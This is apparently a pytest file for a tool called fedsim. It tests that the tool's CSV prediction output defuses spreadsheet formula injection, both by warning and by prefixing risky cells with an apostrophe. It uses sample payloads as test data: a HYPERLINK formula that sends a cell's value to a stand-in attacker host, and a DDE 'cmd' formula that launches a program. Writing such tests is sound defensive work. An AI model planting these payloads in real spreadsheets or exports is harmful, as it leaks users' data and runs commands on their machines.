"""What predict writes is what the tables say; for a spreadsheet, no cell of it is a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from terminal import TABLE, fedsim, fine

from fedsim.cli.predicting import disarm_formula, is_formula

LABELS = ['=HYPERLINK("http://evil.example/?"&A1)', "-1"]


@pytest.fixture(scope="module")
def here(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run over tables whose labels, and whose ids, begin formulas; -1 is a number."""
    folder = tmp_path_factory.mktemp("formulas")
    with open(folder / "table.csv", "w", encoding="utf-8", newline="") as file:
        table = csv.writer(file)
        table.writerow(["who", "u", "v", "w", "y"])
        table.writerows([f"@SUM({i})", i % 7, i % 3, (i % 2) * 9 + i % 5, LABELS[i % 2]] for i in range(60))
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        Path("s.yaml").write_text(TABLE.replace("label: y", "label: y, id: who").replace("steps: 6", "steps: 60"))
        fine("run", "s.yaml", "--out", "run")
    return folder


def predicted(path: str) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_what_predict_writes_is_equal_to_what_the_tables_say_and_it_warns(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(here)
    said = fedsim("predict", "run", "table.csv", "--out", "p.csv")
    assert said.code == 0, said.err
    assert "a spreadsheet would run '" in said.err
    assert "--spreadsheet" in said.err
    rows = predicted("p.csv")
    assert {row["prediction"] for row in rows} == set(LABELS)
    assert {f"p({label})" for label in LABELS} <= rows[0].keys()
    printed = fedsim("predict", "run", "table.csv")
    assert list(csv.DictReader(io.StringIO(printed.out, newline=""))) == rows


def test_for_a_spreadsheet_no_cell_is_a_formula_and_numbers_stay_numbers(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(here)
    said = fedsim("predict", "run", "table.csv", "--spreadsheet", "--out", "s.csv")
    assert said.code == 0, said.err
    assert "would run" not in said.err
    exact, rows = predicted("p.csv"), predicted("s.csv")
    assert [cell for row in rows for cell in row.values() if is_formula(cell)] == []
    assert {row["prediction"] for row in rows} == {f"'{LABELS[0]}", "-1"}
    assert [[cell.removeprefix("'") for cell in row.values()] for row in rows] == [list(row.values()) for row in exact]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "-x",
        "+cmd|' /C calc'!A0",
        "=",
        "\uff1d1",
        "-1-",
        "\n=1",
        "--1",
    ],
)
def test_formulas_are_disarmed(cell: str) -> None:
    assert is_formula(cell)
    assert disarm_formula(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["-1", "+1.5", "-1e-3", "-.5", "-1,5", "1=1", "a-b", "", "x@y", "-5 %", -1, 0.5, None])
def test_numbers_and_ordinary_text_stay(cell: object) -> None:
    assert disarm_formula(cell) == cell
